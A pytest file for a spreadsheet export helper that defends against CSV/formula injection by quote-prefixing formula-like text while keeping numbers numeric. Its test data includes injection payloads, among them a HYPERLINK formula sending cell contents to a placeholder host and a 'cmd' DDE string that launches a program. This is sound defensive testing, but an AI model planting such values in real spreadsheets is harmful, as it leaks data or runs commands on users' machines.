"""The one helper every export writes through: text stays text (issue 16, OWASP "CSV Injection"),
numbers stay numbers."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from mpp.core.sheets import append_row, csv_row

FORMULA = '=HYPERLINK("http://x"&B2,"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+62 812 SUM(A1)", "'+62 812 SUM(A1)"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ruang tunggu = sempit", "Ruang tunggu = sempit"),
        ("-5", "-5"),  # a negative number written as text is still only a number
        ("-1.250.000,50", "-1.250.000,50"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_csv_cells_that_start_like_a_formula_get_a_quote_and_numbers_do_not(value, written):
    assert csv_row([value]) == [written]


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    assert sheet is not None

    append_row(sheet, [FORMULA, "#N/A", -5, "kontrol\x07dibuang", "biasa"])
    out = io.BytesIO()
    book.save(out)

    cells = list(load_workbook(out).active[1])  # type: ignore[index]
    assert [(c.value, c.data_type) for c in cells] == [
        (FORMULA, "s"),
        ("#N/A", "s"),
        (-5, "n"),
        ("kontroldibuang", "s"),
        ("biasa", "s"),
    ]
    assert cells[0].quotePrefix and not cells[4].quotePrefix
